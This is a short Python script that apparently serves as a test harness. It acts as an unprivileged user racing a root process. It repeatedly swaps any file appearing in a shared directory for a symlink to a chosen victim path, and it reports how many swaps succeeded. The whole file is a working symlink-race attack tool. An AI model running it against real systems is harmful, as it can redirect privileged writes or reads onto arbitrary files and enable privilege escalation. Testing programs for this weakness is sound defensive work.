#!/usr/bin/env python3
"""Plays a user who owns a directory in which root works: puts a link to VICTIM in the place of whatever comes up in DIR,
again and again, and says how often.

swapper.py DIR VICTIM SECONDS"""

import os
import sys
import time


def main():
    directory, victim, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    end, swaps = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for name in os.listdir(directory):
            path = os.path.join(directory, name)
            if name.startswith("aside-") or os.path.islink(path):
                continue
            try:
                os.rename(path, os.path.join(directory, f"aside-{swaps}"))
                os.symlink(victim, path)
                swaps += 1
            except OSError:
                pass
        for name in os.listdir(directory):  # so that it comes up again
            path = os.path.join(directory, name)
            if os.path.islink(path) and swaps % 3 == 0:
                os.unlink(path)
    print(swaps)


main()
